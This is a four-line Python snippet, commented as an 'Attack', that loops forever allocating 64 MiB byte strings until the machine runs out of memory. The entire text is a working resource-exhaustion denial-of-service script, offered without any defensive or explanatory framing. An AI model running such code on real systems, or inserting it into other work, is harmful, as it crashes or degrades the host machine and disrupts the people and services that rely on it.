# Attack: allocate (and touch) memory until the machine runs out.
hog = []
while True:
    hog.append(b"x" * (64 << 20))
